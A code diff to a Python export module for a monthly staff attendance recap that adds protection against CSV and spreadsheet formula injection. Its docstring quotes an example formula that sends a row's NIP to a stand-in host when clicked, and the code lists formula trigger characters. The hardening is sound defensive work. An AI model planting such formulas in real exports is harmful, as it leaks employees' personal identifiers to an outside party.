@@ -5,6 +5,14 @@ No, NIP, Nama, Jabatan, Unit, TL1..TL4, PSW1..PSW4, TK, Potongan (%), Menit Akti
 The NIP is always text (18 digits would lose their tail as a spreadsheet number); percentages are
 numbers with two decimals. The CSV is UTF-8 with a byte-order mark so spreadsheet programs read names
 with their accents right.
+
+Safe to open (OWASP, "CSV Injection"): a name, position or unit is whatever an administrator (or an
+import file) typed, and a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (tab and CR
+too) as a formula: `=HYPERLINK("http://x/?"&B2,"Citra")` sends the row's NIP away on a click. In the
+XLSX every text cell is a string cell (never openpyxl's formula type) with Excel's quote prefix, so the
+value is exactly the name and stays text even when someone edits the cell. In the CSV, which has no
+types, such a text field gets a leading single quote, as OWASP advises. Our own numbers are never
+touched.
 """
 
 from __future__ import annotations
@@ -18,6 +26,13 @@ from typing import Protocol
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 CODES = ("TL1", "TL2", "TL3", "TL4", "PSW1", "PSW2", "PSW3", "PSW4", "TK")
 HEADER = ("No", "NIP", "Nama", "Jabatan", "Unit", *CODES, "Potongan (%)", "Menit Aktivitas", "Nilai (%)")
+# What makes a spreadsheet read a cell as a formula (OWASP), and NUL (ASVS 1.2.10).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
+
+
+def csv_text(value: str) -> str:
+    """A text field as a spreadsheet will read it: text, never a formula."""
+    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
 
 
 class RecapLine(Protocol):
@@ -52,12 +67,18 @@ def recap_table(rows: Sequence[RecapLine]) -> list[list[object]]:
     ]
 
 
+def _csv_field(value: object) -> object:
+    if isinstance(value, float):
+        return f"{value:.2f}"
+    return csv_text(value) if isinstance(value, str) else value
+
+
 def recap_csv(rows: Sequence[RecapLine], month: date) -> bytes:
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\r\n")
     writer.writerow(HEADER)
     for line in recap_table(rows):
-        writer.writerow([f"{value:.2f}" if isinstance(value, float) else value for value in line])
+        writer.writerow([_csv_field(value) for value in line])
     return ("\ufeff" + out.getvalue()).encode("utf-8")
 
 
@@ -74,6 +95,12 @@ def recap_xlsx(rows: Sequence[RecapLine], month: date) -> bytes:
         cell.font = Font(bold=True)
     for line in recap_table(rows):
         sheet.append(line)
+    for row in sheet.iter_rows(min_row=2):
+        for cell in row:
+            if isinstance(cell.value, str):
+                # openpyxl makes any str starting with "=" a formula; a string cell is text whatever it holds.
+                cell.data_type = "s"
+                cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
     for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2):
         cell.number_format = "@"  # NIP as text
     for column in ("O", "Q"):  # Potongan (%), Nilai (%)
